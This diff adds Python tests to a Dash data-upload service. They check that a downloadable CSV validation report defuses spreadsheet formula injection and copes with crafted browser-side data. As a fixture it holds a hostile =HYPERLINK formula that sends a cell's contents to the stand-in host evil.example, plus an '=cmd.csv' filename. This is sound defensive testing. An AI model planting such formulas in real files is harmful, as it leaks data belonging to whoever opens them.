@@ -352,3 +352,51 @@ def test_upl009_the_reporters_upload_page_refuses_and_records_the_same_files(
     assert "未通过校验" in text and "超过上限 1,000,000 行" in text, text[:500]
     assert _count(factory, models.Submission) == before
     assert _events(factory, REFUSED)[-1].after["channel"] == "upload"
+
+
+def _download(client: FlaskClient, report: Any) -> Any:
+    """What 数据校验 sends when 下载校验报告 is clicked with ``report`` in its store."""
+    response = client.post(
+        "/_dash-update-component",
+        json={
+            "output": "upload-download.data",
+            "outputs": {"id": "upload-download", "property": "data"},
+            "inputs": [{"id": "upload-download-button", "property": "n_clicks", "value": 1}],
+            "state": [{"id": "upload-report", "property": "data", "value": report}],
+            "changedPropIds": ["upload-download-button.n_clicks"],
+        },
+        headers=ORIGIN,
+    )
+    assert response.status_code in (200, 204), response.get_data(as_text=True)[:300]
+    return (response.get_json() or {}).get("response", {}).get("upload-download", {}).get("data")
+
+
+def test_upl010_the_check_report_csv_neutralises_formulas_and_survives_a_crafted_store(
+    world: dict[str, Any],
+) -> None:
+    """Issue 17 row 9: a cell value echoed by the check report must not become a
+    formula in Excel; the store comes from the browser, so any shape is answered."""
+    client = _client(world, "192.0.2.11")
+    hostile = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'
+    content = (
+        HEADER + f'成都市,地区生产总值,2024年,"{hostile.replace(chr(34), chr(34) * 2)}",亿元,\n'
+    )
+    report = check(client, "=cmd.csv", content.encode())
+    assert hostile in [p["value"] for p in report["problems"]]
+    made = _download(client, {k: v for k, v in report.items() if k != "text"})
+    assert made["filename"] == "校验报告-=cmd.csv.csv"
+    lines = made["content"].lstrip("\ufeff").splitlines()
+    assert lines[0] == "级别,工作表,行,列,原值,问题,文件"
+    cells = [c for line in lines[1:] for c in line.split(",")]
+    assert not any(c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells)
+    assert any(c.startswith("\"'=HYPERLINK(") for c in cells)
+    for crafted in (
+        None,
+        [],
+        "x",
+        {"problems": "x"},
+        {"problems": [1, 2]},
+        {"problems": [{"value": {"deep": [1]}}], "file": ["a"]},
+    ):
+        made = _download(client, crafted)
+        assert made is None or made["content"].startswith("\ufeff级别")
